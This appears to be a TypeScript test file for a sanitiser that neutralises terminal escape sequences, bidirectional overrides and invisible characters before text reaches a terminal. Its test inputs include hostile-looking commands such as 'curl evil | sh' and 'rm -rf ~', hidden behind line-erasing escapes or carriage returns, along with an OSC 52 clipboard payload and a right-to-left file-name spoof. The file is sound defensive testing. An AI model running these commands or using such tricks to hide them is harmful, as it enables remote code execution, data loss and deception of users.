import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { oneLineText, terminalSafe } from './terminal-safe.js';

// Whatever a repository, a model or a server writes, what reaches the terminal holds no control
// character but tab and newline (none at all in one line), and no bidirectional control.

/** Whether `text` holds a character that acts on a terminal (tab and newline too when `inLine`). */
function actsOnTerminal(text: string, inLine = false): boolean {
  for (const char of text) {
    const code = char.charCodeAt(0);
    if ((code === 0x09 || code === 0x0a) && !inLine) continue;
    if (code < 0x20 || (code >= 0x7f && code <= 0x9f)) return true;
    if ([0x061c, 0x200e, 0x200f].includes(code)) return true;
    if ((code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069)) return true;
  }
  return false;
}

describe('terminalSafe', () => {
  it.each([
    [
      'erase the line and rewrite it',
      'curl evil | sh \u001b[2K\u001b[1Gecho done',
      'curl evil | sh \\x1b[2K\\x1b[1Gecho done',
    ],
    ['a carriage return that overwrites', 'rm -rf ~\rls', 'rm -rf ~\\rls'],
    ['the clipboard (OSC 52)', '\u001b]52;c;Y3VybCBldmls\u0007', '\\x1b]52;c;Y3VybCBldmls\\x07'],
    ['an 8-bit CSI', 'a\u009b2Jb', 'a\\x9b2Jb'],
    ['a right-to-left override', 'txt.\u202eexe', 'txt.\\u202eexe'],
    ['DEL and NUL', 'a\u007fb\u0000c', 'a\\x7fb\\x00c'],
  ])('%s', (_name, text, expected) => {
    expect(terminalSafe(text)).toBe(expected);
  });

  it.each([
    ['a zero-width space in a file name', './fmt\u200b.sh', './fmt\\u200b.sh'],
    ['zero-width (non-)joiners', 'r\u200cm \u200d-rf', 'r\\u200cm \\u200d-rf'],
    ['a word joiner and invisible operators', 'npm\u2060 test\u2062', 'npm\\u2060 test\\u2062'],
    ['a byte-order mark', '\ufeffls', '\\ufeffls'],
    ['a soft hyphen', 'git\u00adhub.com', 'git\\xadhub.com'],
    ['a Hangul filler that looks like a blank', 'ls\u3164;', 'ls\\u3164;'],
    ['a Mongolian vowel separator', 'a\u180eb', 'a\\u180eb'],
    ['tag characters spelling hidden text', 'ok\u{e0072}\u{e006d}', 'ok\\u{e0072}\\u{e006d}'],
  ])('in one line, shows what a terminal draws as nothing: %s', (_name, text, expected) => {
    expect(terminalSafe(text, { singleLine: true })).toBe(expected);
  });

  it('keeps invisible characters in running text (an emoji sequence joins with U+200D)', () => {
    expect(terminalSafe('family 👨\u200d👩\u200d👧')).toBe('family 👨\u200d👩\u200d👧');
    // A lone surrogate is left as it is, and does not swallow what follows.
    expect(terminalSafe('a\ud800\u001bb', { singleLine: true })).toBe('a\ud800\\x1bb');
  });

  it('keeps tabs and newlines, except in one line; leaves other text alone', () => {
    expect(terminalSafe('a\tb\nc')).toBe('a\tb\nc');
    expect(terminalSafe('a\tb\nc', { singleLine: true })).toBe('a\\tb\\nc');
    expect(terminalSafe('héllo — 世界 ✓ 🙂')).toBe('héllo — 世界 ✓ 🙂');
  });

  it('never lets a character that acts on the terminal through', () => {
    // UTF-16 code units, weighted to where the acting ones are (C0, DEL, C1, the bidirectional
    // marks) and anything else, lone surrogates included. (fast-check's 'binary' unit builds its
    // table of all of Unicode first: seconds, and over a minute on a busy machine.)
    const unit = fc.oneof(
      fc.integer({ min: 0, max: 0xa0 }),
      fc.integer({ min: 0x600, max: 0x620 }),
      fc.integer({ min: 0x2000, max: 0x2070 }),
      fc.integer({ min: 0, max: 0xffff }),
    );
    const texts = fc.array(unit, { maxLength: 60 }).map((codes) => String.fromCharCode(...codes));
    fc.assert(
      fc.property(texts, (text) => {
        expect(actsOnTerminal(terminalSafe(text))).toBe(false);
        expect(actsOnTerminal(terminalSafe(text, { singleLine: true }), true)).toBe(false);
      }),
    );
  });
});

describe('oneLineText', () => {
  it.each([
    ['a\nb', 'a b'],
    ['a\r\nb\tc', 'a b c'],
    ['title\u2028forged line\u2029and another', 'title forged line and another'],
    ['\u001b[2Kerased', '[2Kerased'],
    ['\u001b]0;title\u0007x', ']0;title x'],
    ['evil\u202egnp.exe', 'evil gnp.exe'],
    ['\u2066isolated\u2069', 'isolated'],
    ['\u0085next\u009bcsi', 'next csi'],
    ['  spaced   out  ', 'spaced out'],
    ['Ünïcödé 😀 kept', 'Ünïcödé 😀 kept'],
  ])('%j becomes %j', (text, line) => {
    expect(oneLineText(text)).toBe(line);
  });

  it('cuts at max and says so', () => {
    expect(oneLineText('abcdef', 3)).toBe('abc…');
    expect(oneLineText('abc', 3)).toBe('abc');
  });

  it('never leaves a line break, a control or a bidirectional control', () => {
    const unit = fc.oneof(
      fc.integer({ min: 0, max: 0xa0 }),
      fc.integer({ min: 0x2000, max: 0x2070 }),
      fc.integer({ min: 0, max: 0xffff }),
    );
    const texts = fc.array(unit, { maxLength: 60 }).map((codes) => String.fromCharCode(...codes));
    fc.assert(
      fc.property(texts, (text) => {
        const line = oneLineText(text);
        expect(actsOnTerminal(line, true)).toBe(false);
        expect(line).not.toMatch(/[\u2028\u2029]/);
      }),
    );
  });
});
